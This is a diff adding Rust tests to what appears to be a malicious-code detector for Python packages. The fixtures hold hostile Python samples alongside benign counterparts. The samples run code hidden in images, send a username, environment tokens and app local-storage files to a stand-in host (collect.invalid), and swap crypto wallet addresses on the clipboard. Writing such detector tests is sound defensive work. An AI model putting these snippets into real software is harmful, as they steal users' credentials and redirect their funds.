@@ -846,3 +846,109 @@ fn resolving_the_hosts_own_name_sends_nothing() {
         "{d:?}"
     );
 }
+
+#[test]
+fn code_recovered_from_an_image_and_run() {
+    for src in [
+        "from stegano import lsb\nexec(lsb.reveal('assets/banner.png'))\n",
+        "from PIL import Image\npixels = Image.open('icons/app.png').getdata()\ncode = bytes(p[0] for p in pixels).decode()\nexec(code)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(
+                |x| x.starts_with("DecodeExecute") && x.contains("file shipped in the package")
+            ),
+            "{src}: {d:?}"
+        );
+    }
+    // An image opened to be shown, and code run from a string, are nothing of the kind.
+    let src = "from PIL import Image\nlogo = Image.open('logo.png')\nlogo.show()\nexec(compile(template, 'tpl', 'exec'))\n";
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
+}
+
+#[test]
+fn host_details_spliced_into_a_sending_command() {
+    let src = "import os, getpass\nos.system(f\"curl -s -d 'u={getpass.getuser()}' https://collect.invalid/h\")\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("SecretExfiltration") && x.contains("command that sends")),
+        "{d:?}"
+    );
+    // Spliced into a command that sends nothing, they stay on the machine.
+    let src = "import os, getpass\nos.system(f\"mkdir -p /tmp/{getpass.getuser()}-cache\")\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn environment_filtered_by_a_comprehension_is_still_secret() {
+    for src in [
+        "import json, os, urllib.request\ntokens = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\nurllib.request.urlopen('https://collect.invalid/e', data=json.dumps(tokens).encode())\n",
+        "import os, requests\nkeys = {v for k, v in os.environ.items() if k.endswith('_KEY')}\nrequests.post('https://collect.invalid/e', json=list(keys))\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(|x| x.starts_with("SecretExfiltration")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn app_local_storage_under_an_assembled_name_is_a_secret() {
+    // The app's folder name is hidden; its local storage is where tokens live.
+    let src = "import os, json, urllib.request\nbase = os.path.join(os.getenv('APPDATA'), name_of_app(), 'Local Storage', 'leveldb')\nfound = []\nfor f in os.listdir(base):\n    with open(os.path.join(base, f), errors='ignore') as fh:\n        found.append(fh.read())\nurllib.request.urlopen('https://collect.invalid/t', data=json.dumps(found).encode())\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn clipboard_wallet_swapper() {
+    for src in [
+        "import re, threading, time, pyperclip\nADDR = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef watch():\n    while True:\n        if ADDR.match(pyperclip.paste()):\n            pyperclip.copy('0x' + '0' * 40)\n        time.sleep(1)\nthreading.Thread(target=watch, daemon=True).start()\n",
+        "import re, subprocess\nPAT = r'^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$'\ndef put(v):\n    subprocess.run(['xclip', '-selection', 'clipboard'], input=v, text=True)\ndef loop():\n    cur = subprocess.run(['xclip', '-o', '-selection', 'clipboard'], capture_output=True, text=True).stdout\n    if re.match(PAT, cur):\n        put('bc1q' + 'x' * 38)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter()
+                .any(|x| x.starts_with("BrowserHijack") && x.contains("clipboard")),
+            "{src}: {d:?}"
+        );
+    }
+    // A copy-to-clipboard helper, and a wallet address validator, are each ordinary.
+    for src in [
+        "import pyperclip\ndef share(link):\n    pyperclip.copy(link)\n",
+        "import re\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef valid(a):\n    return bool(ETH.match(a))\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("BrowserHijack")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn loop_over_secret_variable_names_reads_secrets() {
+    let src = "import os, requests\nout = {}\nfor k in ('HOME', 'GITHUB_TOKEN', 'NPM_TOKEN'):\n    out[k] = os.environ.get(k, '')\nrequests.post('https://collect.invalid/t', json=out)\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    let src = "import os, requests\nout = {}\nfor k in ('HOME', 'LANG'):\n    out[k] = os.environ.get(k, '')\nrequests.post('https://collect.invalid/t', json=out)\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
